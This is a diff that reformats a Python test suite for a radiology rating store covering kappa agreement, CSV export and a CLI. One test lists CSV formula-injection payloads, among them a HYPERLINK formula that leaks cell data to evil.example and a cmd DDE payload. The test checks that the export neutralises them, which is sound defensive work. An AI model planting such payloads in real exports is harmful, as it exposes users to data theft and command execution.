@@ -23,8 +23,9 @@ def kappa_table_ratings(store: RatingStore) -> None:
     pairs = [(True, True)] * 20 + [(True, False)] * 5 + [(False, True)] * 10 + [(False, False)] * 15
     for i, (a, b) in enumerate(pairs):
         store.add(Rating(study_id=f"s{i:02d}", reader="alice", acceptable=a))
-        store.add(Rating(study_id=f"s{i:02d}", reader="bob", acceptable=b,
-                         errors=() if b else ("missed_finding",)))
+        store.add(
+            Rating(study_id=f"s{i:02d}", reader="bob", acceptable=b, errors=() if b else ("missed_finding",))
+        )
 
 
 def test_kappa_matches_the_hand_computed_value(tmp_path):
@@ -46,17 +47,28 @@ def test_kappa_matches_the_hand_computed_value(tmp_path):
 def test_rating_again_replaces_and_survives_reopening(tmp_path):
     url = f"sqlite:///{tmp_path / 'r.db'}"
     store = RatingStore(url)
-    store.add(Rating(study_id="s1", reader="alice", acceptable=False, errors=("false_finding",), comment="first"))
+    store.add(
+        Rating(study_id="s1", reader="alice", acceptable=False, errors=("false_finding",), comment="first")
+    )
     store.add(Rating(study_id="s1", reader="alice", acceptable=True, comment="second"))
     rows = RatingStore(url).records()  # a new engine: the data is in the database
     assert len(rows) == 1
-    assert rows[0]["acceptable"] is True and rows[0]["false_finding"] is False and rows[0]["comment"] == "second"
+    assert (
+        rows[0]["acceptable"] is True and rows[0]["false_finding"] is False and rows[0]["comment"] == "second"
+    )
 
 
 def test_csv_export(tmp_path):
     store = RatingStore(tmp_path / "r.db")
-    store.add(Rating(study_id="s1", reader="alice", acceptable=False, errors=("wrong_laterality", "wrong_severity"),
-                     comment='says "left", is right'))
+    store.add(
+        Rating(
+            study_id="s1",
+            reader="alice",
+            acceptable=False,
+            errors=("wrong_laterality", "wrong_severity"),
+            comment='says "left", is right',
+        )
+    )
     store.add(Rating(study_id="s2", reader="bob", acceptable=True))
     text = store.export_csv(tmp_path / "out.csv")
     rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text())))
@@ -81,9 +93,20 @@ def test_invalid_ratings_are_refused(tmp_path, rating, words):
 
 
 def test_kappa_undefined_when_both_readers_always_agree_on_one_answer():
-    records = [{"study_id": f"s{i}", "reader": r, "model": "", "acceptable": True, "missed_finding": False,
-                "false_finding": False, "wrong_laterality": False, "wrong_severity": False}
-               for i in range(3) for r in ("a", "b")]
+    records = [
+        {
+            "study_id": f"s{i}",
+            "reader": r,
+            "model": "",
+            "acceptable": True,
+            "missed_finding": False,
+            "false_finding": False,
+            "wrong_laterality": False,
+            "wrong_severity": False,
+        }
+        for i in range(3)
+        for r in ("a", "b")
+    ]
     pair = summarise_ratings(records)["agreement"][0]
     assert pair["observed_agreement"] == 1.0 and pair["kappa"] is None
 
@@ -104,10 +127,19 @@ def test_ratings_cli(tmp_path, capsys):
 
 
 # ------------------------------------------------------------- CSV injection
-@pytest.mark.parametrize("comment", [
-    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-    "\t=1+1", "\r=1+1", "   =1+1", "\uff1d1+1",
-])
+@pytest.mark.parametrize(
+    "comment",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "   =1+1",
+        "\uff1d1+1",
+    ],
+)
 def test_csv_export_neutralises_formulas(tmp_path, comment):
     store = RatingStore(tmp_path / "r.db")
     store.add(Rating(study_id="=s1", reader="@alice", acceptable=False, comment=comment))
@@ -126,8 +158,15 @@ def crossed_records(n_readers: int, per_reader: int = 30, per_case: int = 3, see
     records = []
     for case in range(n_readers * per_reader // per_case):
         for k in range(per_case):
-            records.append({"study_id": f"s{case}", "reader": f"r{(case * per_case + k) % n_readers:04d}",
-                            "model": "m", "acceptable": rng.random() < 0.6, **dict.fromkeys(ERROR_TYPES, False)})
+            records.append(
+                {
+                    "study_id": f"s{case}",
+                    "reader": f"r{(case * per_case + k) % n_readers:04d}",
+                    "model": "m",
+                    "acceptable": rng.random() < 0.6,
+                    **dict.fromkeys(ERROR_TYPES, False),
+                }
+            )
     return records
 
 
@@ -175,8 +214,15 @@ def test_pairwise_kappa_matches_sklearn_on_random_answers():
     for reader in range(6):
         bias = rng.uniform(0.2, 0.8)
         for case in rng.choice(40, size=int(rng.integers(5, 40)), replace=False):
-            records.append({"study_id": f"s{case}", "reader": f"r{reader}", "model": "",
-                            "acceptable": bool(rng.random() < bias), **dict.fromkeys(ERROR_TYPES, False)})
+            records.append(
+                {
+                    "study_id": f"s{case}",
+                    "reader": f"r{reader}",
+                    "model": "",
+                    "acceptable": bool(rng.random() < bias),
+                    **dict.fromkeys(ERROR_TYPES, False),
+                }
+            )
     answers = {(r["reader"], r["study_id"]): r["acceptable"] for r in records}
     agreement = summarise_ratings(records)["agreement"]
     assert len(agreement) == 15  # every pair shares cases here
